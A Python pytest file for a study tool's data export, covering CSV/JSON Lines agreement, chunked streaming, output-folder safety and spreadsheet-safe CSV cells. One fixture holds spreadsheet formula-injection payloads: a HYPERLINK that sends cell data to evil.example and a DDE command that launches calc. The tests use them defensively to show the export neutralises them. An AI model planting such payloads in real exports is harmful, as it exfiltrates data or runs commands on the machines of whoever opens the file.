"""Export: the contract's files and columns, every outcome, CSV = JSON Lines, spreadsheet-safe CSV cells,
streaming in chunks, the output-folder rule, a killed export, the round schema through the label reader, CLI."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from convlens.cli.main import app as cli
from convlens.core.csv_cells import restore
from convlens.core.outputs import verify_output_folder
from convlens.labels import export as reader
from convlens.study.batch.data_dictionary import PARTICIPANT_TEXT, TABLES
from convlens.study.batch.export import BATCH, EXPORT_FOLDER, export_study, format_rows
from convlens.study.store.config import RoundSpec, load_rounds
from study.conftest import CLASSES, ApiPlayer, make_app, true_class

TRICKY = 'edges, "quotes"\nand a second line; ümlaut'
FORMULAS = {"description": '=HYPERLINK("http://evil.example/?"&A1,"click")', "nickname": "+cmd|' /C calc'!A0",
            "prolific_pid": "@SUM(1+1)", "study_id": "-2+3", "session_id": "'quoted"}
runner = CliRunner()


def _scenario(app: Any) -> dict[str, Any]:
    """win (level 2, described in Italian), lose (level 0, description skipped), resign (level 1), abandoned
    (still running at export)."""
    alice, bob = ApiPlayer(app, nickname="alice"), ApiPlayer(app, query="?PROLIFIC_PID=pp1")
    win = alice.next()["play"]
    alice.act(win, "reveal", level=1)
    alice.act(win, "reveal", level=2)
    alice.act(win, "guess", class_name=true_class(app, win))
    alice.act(win, "describe", text=TRICKY, language="it")
    lose = alice.next()["play"]
    alice.act(lose, "guess", class_name=next(c for c in CLASSES if c != true_class(app, lose)))
    alice.act(lose, "skip")
    resign = bob.next()["play"]
    bob.act(resign, "reveal", level=1)
    bob.act(resign, "resign")
    abandoned = bob.next()["play"]
    bob.act(abandoned, "reveal", level=1)
    return {"win": win, "lose": lose, "resign": resign, "abandoned": abandoned}


def _read(out: Path, table: str, fmt: str) -> list[dict[str, Any]]:
    path = out / f"{table}.{fmt}"
    if fmt == "jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == [c["name"] for c in TABLES[table]]
    return rows


def _as_csv(value: Any) -> str:
    return "" if value is None else ("true" if value is True else "false" if value is False else str(value))


def test_export_follows_the_contract(study_dir: Path, database: str, tmp_path: Path) -> None:
    app = make_app(study_dir, database)
    plays = _scenario(app)
    runtime, engine = app.state.runtime, app.state.engine
    export_study(engine, runtime.config, tmp_path / "csv", "csv")
    export_study(engine, runtime.config, tmp_path / "jsonl", "jsonl")
    meta = json.loads((tmp_path / "jsonl" / "study.json").read_text())
    assert meta["reveal_levels"] == {"0": 2.0, "1": 4.5, "2": 8.0, "3": 13.0, "4": 20.0, "5": 30.0}
    assert meta["classes"] == CLASSES and meta["study_version"] == "1" and "100 - 10*k" in meta["scoring_rule"]
    assert meta["data_dictionary_version"] == "2" and meta["inv_runs"][0]["format_version"] >= 1
    assert (meta["quota"], meta["gold_per_participant"], meta["lease_seconds"]) == (3, 1, 1200)
    dictionary = json.loads((tmp_path / "csv" / "data_dictionary.json").read_text())
    assert dictionary["tables"] == TABLES and "## plays" in (tmp_path / "csv" / "data_dictionary.md").read_text()
    rows = {table: _read(tmp_path / "jsonl", table, "jsonl") for table in TABLES}
    for table in TABLES:  # CSV and JSON Lines carry the same values
        assert _read(tmp_path / "csv", table, "csv") == [{k: _as_csv(v) for k, v in r.items()} for r in rows[table]]
    by_id = {r["play_id"]: r for r in rows["plays"]}
    rounds = {r["round_id"]: r for r in rows["rounds"]}
    win, lose, resign, gone = (by_id[plays[k]] for k in ("win", "lose", "resign", "abandoned"))
    assert (win["outcome"], win["level"], win["correct"], win["score"], win["language"]) == ("win", 2, True, 80, "it")
    assert win["description"] == TRICKY and win["guessed_class"] == win["true_class"]
    assert (win["position"], lose["position"], resign["position"], gone["position"]) == (1, 2, 1, 2)
    assert (win["description_screen"], lose["description_screen"]) == ("level", None)
    assert (lose["outcome"], lose["level"], lose["correct"], lose["description"]) == ("lose", 0, False, None)
    assert (resign["outcome"], resign["level"], resign["guessed_class"], resign["correct"]) == ("resign", 1, None, None)
    assert (gone["outcome"], gone["level"], gone["ended_at"]) == ("abandoned", 1, None)
    for play in rows["plays"]:
        r = rounds[play["round_id"]]
        assert (play["cluster_id"], play["layer"], play["true_class"], play["gold"]) == (
            r["cluster_id"], r["layer"], r["true_class"], r["gold"])
        assert play["started_at"].endswith("Z")
    events = [e for e in rows["events"] if e["play_id"] == plays["win"]]
    assert [(e["type"], e["level"], e["screen"]) for e in events] == [
        ("start", 0, "level"), ("reveal", 1, "level"), ("reveal", 2, "level"), ("guess", 2, "level"),
        ("describe", 2, "level")]
    assert [e["type"] for e in rows["events"] if e["play_id"] == plays["lose"]] == ["start", "guess", "skip"]
    assert [e["event_id"] for e in rows["events"]] == sorted(e["event_id"] for e in rows["events"])
    people = {p["nickname"]: p for p in rows["participants"]}
    alice = people["alice"]
    assert (alice["plays"], alice["wins"], alice["quota"], alice["completed"]) == (2, 1, 3, False)
    assert people[None]["prolific_pid"] == "pp1" and people[None]["plays"] == 1
    engine.dispose()


def test_gold_accuracy_per_participant(study_dir: Path, tmp_path: Path) -> None:
    """gold_accuracy = gold_correct / gold_plays (here 1/1 and 0/1), null without a gold play."""
    app = make_app(study_dir)
    runtime = app.state.runtime
    people = [ApiPlayer(app, nickname=name) for name in ("right", "wrong", "idle")]
    for person, right in zip(people[:2], (True, False), strict=True):
        while not (view := person.next()).get("done"):
            answer = true_class(app, view["play"])
            guess = answer if right or not _is_gold(runtime, view["play"]) else next(c for c in CLASSES if c != answer)
            person.act(view["play"], "guess", class_name=guess)
            person.act(view["play"], "skip")
    export_study(app.state.engine, runtime.config, tmp_path / "x", "jsonl")
    rows = {p["nickname"]: p for p in _read(tmp_path / "x", "participants", "jsonl")}
    assert (rows["right"]["gold_plays"], rows["right"]["gold_correct"], rows["right"]["gold_accuracy"]) == (1, 1, 1.0)
    assert (rows["wrong"]["gold_plays"], rows["wrong"]["gold_correct"], rows["wrong"]["gold_accuracy"]) == (1, 0, 0.0)
    assert rows["idle"]["gold_accuracy"] is None and rows["right"]["completed"] is True
    names = [c["name"] for c in TABLES["participants"]]
    assert {"gold_plays", "gold_correct", "gold_accuracy", "completed", "quota"} <= set(names)
    app.state.engine.dispose()


def _is_gold(runtime: Any, play_id: str) -> bool:
    from sqlalchemy import select

    from convlens.study.store.db import Play

    with runtime.reader.begin() as session:
        return runtime.rounds[session.scalar(select(Play.round_id).where(Play.public_id == play_id))].gold


def test_participant_text_is_spreadsheet_safe_in_csv(study_dir: Path, tmp_path: Path) -> None:
    """Formula-like participant text is neutralised in CSV (one leading quote, restored exactly), exact in JSON
    Lines and with --raw-csv; study.json and the manifest say which."""
    app = make_app(study_dir)
    query = f"?PROLIFIC_PID={FORMULAS['prolific_pid']}&STUDY_ID={FORMULAS['study_id']}&SESSION_ID=%27quoted"
    player = ApiPlayer(app, nickname=FORMULAS["nickname"], query=query.replace("+", "%2B"))
    play = player.next()["play"]
    player.act(play, "guess", class_name=CLASSES[0])
    player.act(play, "describe", text=FORMULAS["description"], language="en")
    runtime = app.state.runtime
    export_study(app.state.engine, runtime.config, tmp_path / "safe", "csv")
    export_study(app.state.engine, runtime.config, tmp_path / "raw", "csv", raw_csv=True)
    export_study(app.state.engine, runtime.config, tmp_path / "exact", "jsonl")
    app.state.engine.dispose()
    safe_person = _read(tmp_path / "safe", "participants", "csv")[0]
    safe_play = _read(tmp_path / "safe", "plays", "csv")[0]
    safe_event = next(e for e in _read(tmp_path / "safe", "events", "csv") if e["type"] == "describe")
    cells = {"description": safe_play["description"], "text": safe_event["text"],
             **{k: safe_person[k] for k in ("nickname", "prolific_pid")},
             "study_id": safe_person["study_id_param"], "session_id": safe_person["session_id_param"]}
    for name, cell in cells.items():
        original = FORMULAS["description" if name == "text" else name]
        assert cell == "'" + original and restore(cell) == original, name  # shown as text, restored exactly
    exact = _read(tmp_path / "exact", "plays", "jsonl")[0]
    raw = _read(tmp_path / "raw", "plays", "csv")[0]
    assert exact["description"] == raw["description"] == FORMULAS["description"]
    assert _read(tmp_path / "safe", "plays", "csv")[0]["guessed_class"] == CLASSES[0]  # not participant text
    for folder, cells_flag in (("safe", "neutralised"), ("raw", "raw")):
        manifest = verify_output_folder(tmp_path / folder, EXPORT_FOLDER)
        assert manifest["csv_cells"] == cells_flag
        assert json.loads((tmp_path / folder / "study.json").read_text())["csv_cells"] == cells_flag
    meta = json.loads((tmp_path / "safe" / "study.json").read_text())
    assert meta["participant_text"] == {t: list(c) for t, c in PARTICIPANT_TEXT.items()}
    for folder in ("safe", "raw", "exact"):  # the label pipeline's reader gets the exact words back from all three
        (play_row,) = reader.read_export(tmp_path / folder).plays
        assert play_row.description == FORMULAS["description"], folder
    markdown = (tmp_path / "safe" / "data_dictionary.md").read_text()
    assert "single quote" in markdown and "participant text: neutralised in CSV" in markdown


def test_rows_are_streamed_in_chunks() -> None:
    produced = []

    def rows() -> Any:
        for i in range(2 * BATCH + 5):
            produced.append(i)
            yield {"event_id": i, **{c["name"]: None for c in TABLES["events"][1:]}}

    chunks = format_rows(rows(), "events", "csv")
    first = next(chunks)
    assert len(produced) == BATCH and first.count("\n") == BATCH + 1  # header + one batch, nothing more read
    assert sum(chunk.count("\n") for chunk in chunks) == BATCH + 5
    with pytest.raises(ValueError, match="csv or jsonl"):
        next(format_rows(iter([]), "events", "xml"))


def _one_line_exit_2(result: Any, *fragments: str) -> None:
    text = " ".join(result.output.split())
    assert result.exit_code == 2 and text.startswith("error:") and text.count("error:") == 1, result.output
    assert "Traceback" not in result.output and all(f in text for f in fragments), result.output


def test_cli_export_and_the_output_folder_rule(study_dir: Path, tmp_path: Path) -> None:
    app = make_app(study_dir)
    _scenario(app)
    app.state.engine.dispose()
    out = tmp_path / "x"
    result = runner.invoke(cli, ["study", "export", str(study_dir), "--format", "jsonl", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["study.json", "data_dictionary.json", "data_dictionary.md", "rounds.jsonl", "plays.jsonl", "events.jsonl",
         "participants.jsonl", "manifest.json"])
    manifest = verify_output_folder(out, EXPORT_FOLDER)
    assert manifest["rows"]["plays"] == 4 and manifest["table_format"] == "jsonl"
    again = runner.invoke(cli, ["study", "export", str(study_dir), "--out", str(out)])  # its own folder: replaced
    assert again.exit_code == 0 and (out / "plays.csv").is_file() and not (out / "plays.jsonl").exists()
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "plays.csv").write_text("my own notes")
    _one_line_exit_2(runner.invoke(cli, ["study", "export", str(study_dir), "--out", str(mine)]), "plays.csv",
                     "did not write")
    assert (mine / "plays.csv").read_text() == "my own notes"
    afile = tmp_path / "a-file"
    afile.write_text("keep")
    _one_line_exit_2(runner.invoke(cli, ["study", "export", str(study_dir), "--out", str(afile)]), "not a folder")
    assert afile.read_text() == "keep"
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        if not os.access(locked, os.W_OK):  # (root writes everywhere)
            _one_line_exit_2(runner.invoke(cli, ["study", "export", str(study_dir), "--out", str(locked / "e")]),
                             "no permission")
    finally:
        locked.chmod(0o700)
    _one_line_exit_2(runner.invoke(cli, ["study", "export", str(study_dir), "--out", "/proc/convlens-export"]),
                     "/proc")  # a read-only file system, even for root
    _one_line_exit_2(runner.invoke(cli, ["study", "export", str(study_dir), "--format", "xml"]), "csv or jsonl")
    _one_line_exit_2(runner.invoke(cli, ["study", "export", str(tmp_path / "nope")]), "study.json")


def test_export_of_a_never_served_study_creates_nothing(study_dir: Path, tmp_path: Path) -> None:
    result = runner.invoke(cli, ["study", "export", str(study_dir), "--out", str(tmp_path / "x")])
    _one_line_exit_2(result, "study.sqlite", "never been served")
    assert not (study_dir / "study.sqlite").exists() and not (tmp_path / "x").exists()
    assert not any(p.name.startswith("study.sqlite") for p in study_dir.iterdir())


KILLED_EXPORT = """
import sys, time
from pathlib import Path
import convlens.study.batch.export as export

real = export.format_rows

def slow(rows, table, fmt, **kwargs):
    for chunk in real(rows, table, fmt, **kwargs):
        yield chunk
        if table == "plays":
            Path(sys.argv[1]).write_text("half")
            time.sleep(600)

export.format_rows = slow
from convlens.cli.main import app
app(sys.argv[2:], prog_name="convlens")
"""


def test_a_killed_export_never_leaves_a_half_folder(study_dir: Path, tmp_path: Path) -> None:
    """SIGKILL while plays are being written: the earlier export at --out is untouched and still checks out,
    nothing half written is ever at --out, and the rerun replaces it whole."""
    app = make_app(study_dir)
    _scenario(app)
    app.state.engine.dispose()
    out, marker = tmp_path / "export", tmp_path / "marker"
    assert runner.invoke(cli, ["study", "export", str(study_dir), "--out", str(out)]).exit_code == 0
    before = verify_output_folder(out, EXPORT_FOLDER)
    ApiPlayer(make_app(study_dir)).next()  # one more event since
    child = subprocess.Popen([sys.executable, "-c", KILLED_EXPORT, str(marker), "study", "export", str(study_dir),
                              "--out", str(out)])
    try:
        for _ in range(6000):
            if marker.exists() or child.poll() is not None:
                break
            time.sleep(0.05)
        assert marker.exists(), "the child never reached the plays table"
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    assert verify_output_folder(out, EXPORT_FOLDER) == before  # the previous export, whole
    rerun = runner.invoke(cli, ["study", "export", str(study_dir), "--out", str(out)])
    assert rerun.exit_code == 0, rerun.output
    after = verify_output_folder(out, EXPORT_FOLDER)
    assert after["rows"]["events"] == before["rows"]["events"] + 1


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_label_pipeline_reads_the_export(study_dir: Path, tmp_path: Path, fmt: str) -> None:
    """The contract's consumer (convlens.labels.export) parses every row of both formats."""
    app = make_app(study_dir)
    plays = _scenario(app)
    export_study(app.state.engine, app.state.runtime.config, tmp_path / fmt, fmt)
    app.state.engine.dispose()
    parsed = reader.read_export(tmp_path / fmt)
    assert parsed.invalid == [] and {p.play_id for p in parsed.plays} == set(plays.values())
    win = next(p for p in parsed.plays if p.play_id == plays["win"])
    assert (win.outcome, win.level, win.correct, win.description, win.language) == ("win", 2, True, TRICKY, "it")
    assert len(parsed.rounds) == len(app.state.runtime.rounds)


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_every_round_field_round_trips_through_the_label_reader(study_dir: Path, tmp_path: Path, fmt: str) -> None:
    """RoundSpec (the one definition) and the reader's Round have the same fields; every value comes back —
    a null text field as "" (a CSV cell cannot tell them apart), numbers as they were."""
    assert list(RoundSpec.model_fields) == [f.name for f in reader.Round.__dataclass_fields__.values()]
    app = make_app(study_dir)
    export_study(app.state.engine, app.state.runtime.config, tmp_path / fmt, fmt)
    app.state.engine.dispose()
    parsed = reader.read_export(tmp_path / fmt).rounds
    specs = load_rounds(study_dir)
    assert {s.gold for s in specs} == {True, False}  # both kinds, with and without a cluster
    for spec in specs:
        got = parsed[spec.round_id]
        for name, value in spec.model_dump().items():
            expected = "" if value is None and name in ("cluster_id", "layer") else value
            actual = getattr(got, name)
            assert actual == pytest.approx(expected) if isinstance(value, float) else actual == expected, name


def test_the_output_folder_rule_for_any_folder_contents(study_dir: Path, tmp_path: Path) -> None:
    """Hypothesis: whatever a folder holds, the export either refuses it (it holds something the export did
    not write) and changes nothing, or (empty, missing, or an earlier export) becomes exactly one export;
    nothing outside the folder ever changes."""
    import uuid

    from hypothesis import given, settings
    from hypothesis import strategies as st

    from convlens.core.outputs import OutputFolderError

    app = make_app(study_dir)
    _scenario(app)
    engine, config = app.state.engine, app.state.runtime.config
    own = sorted(EXPORT_FOLDER.names)
    names = st.sampled_from([*own, "notes.txt", ".hidden", "plays.CSV", "sub", ".convlens-tmp-notes"])
    manifest = json.dumps({"format": EXPORT_FOLDER.format, "files": {}}).encode()

    def snapshot(root: Path) -> dict[str, bytes]:
        return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}

    @settings(max_examples=40, deadline=None)
    @given(st.dictionaries(names, st.binary(max_size=16), max_size=4), st.booleans(), st.booleans())
    def check(contents: dict[str, bytes], marked: bool, exists: bool) -> None:
        outer = tmp_path / uuid.uuid4().hex
        folder = outer / "out"
        outer.mkdir()
        (outer / "beside.txt").write_bytes(b"the user's")
        if exists:
            folder.mkdir()
            for name, data in contents.items():
                (folder / name).write_bytes(manifest if name == "manifest.json" and marked else data)
        before, around = snapshot(folder) if exists else {}, snapshot(outer)
        foreign = [n for n in contents if n not in own] if exists else []
        is_own = not exists or not contents or (marked and "manifest.json" in contents and not foreign)
        try:
            export_study(engine, config, folder, "csv")
            refused = False
        except OutputFolderError:
            refused = True
        assert refused == (not is_own), (contents, marked, exists)
        if refused:
            assert snapshot(outer) == around and snapshot(folder) == before
        else:
            assert sorted(p.name for p in folder.iterdir()) == sorted(
                ["study.json", "data_dictionary.json", "data_dictionary.md", "rounds.csv", "plays.csv", "events.csv",
                 "participants.csv", "manifest.json"])
            verify_output_folder(folder, EXPORT_FOLDER)
        assert sorted(p.name for p in outer.iterdir()) == (["beside.txt"] + (["out"] if exists or not refused
                                                                               else []))
        assert (outer / "beside.txt").read_bytes() == b"the user's"

    check()
    engine.dispose()
